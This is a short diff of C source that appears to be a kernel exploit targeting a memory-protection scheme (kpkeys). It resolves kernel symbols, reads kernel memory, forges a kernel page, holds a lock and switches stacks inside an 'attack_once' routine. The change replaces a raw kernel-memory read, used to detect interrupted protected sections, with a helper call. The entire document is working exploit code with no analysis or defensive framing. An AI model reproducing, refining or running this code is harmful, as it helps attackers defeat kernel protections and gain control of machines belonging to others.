@@ -32,7 +32,6 @@
 #define HOLD		5		/* milliseconds */
 #define PATIENCE	50		/* likewise, for the mover to go on */
 #define LAST_LOOK	300000		/* microseconds */
-#define NR_SAVED	1		/* byte of kpkeys_cpu: interrupted sections */
 
 /* The bit by which nobody asks whose a page is ... */
 #ifdef __x86_64__
@@ -56,7 +55,7 @@ static struct {
 struct target {
 	struct task task;
 	struct kernel_page forged;
-	uint64_t table[2], function, lock, state, entry;
+	uint64_t table[2], function, lock, entry;
 	int held, changed;		/* handlers that waited, and frames, so far */
 };
 
@@ -167,7 +166,6 @@ static bool find_target(pid_t pid, struct target *target)
 		target->table[i] = slot.slot & -PAGE_SIZE;
 	}
 	target->function = ksymbol(is_protected() ? MOVER : MOVER_WITHOUT);
-	target->state = ksymbol_cpu("kpkeys_cpu", MOVER_CPU);
 	if (!target->function || ktask(pid, &target->task) || !kernel_page(&target->forged))
 		return false;
 	memset(zero, 0, sizeof(zero));
@@ -189,13 +187,9 @@ static bool hold_lock(const struct target *target)
 }
 
 /* Sections alone: without protection there are none. */
-static bool is_section(const struct target *target)
+static bool is_section(void)
 {
-	uint8_t nr = 1;
-
-	if (target->state && is_protected())
-		kread(target->state + NR_SAVED, &nr, sizeof(nr));
-	return nr;
+	return !is_protected() || has_hit_section(MOVER_CPU);
 }
 
 static void write_entry(const struct target *target, int which, uint64_t value)
@@ -253,7 +247,7 @@ static void wait_for_round(void)
 
 static void attack_once(struct target *target)
 {
-	if (hold_lock(target) && is_section(target)) {
+	if (hold_lock(target) && is_section()) {
 		target->held++;
 		prepare_page(target);
 		change_stack(target);
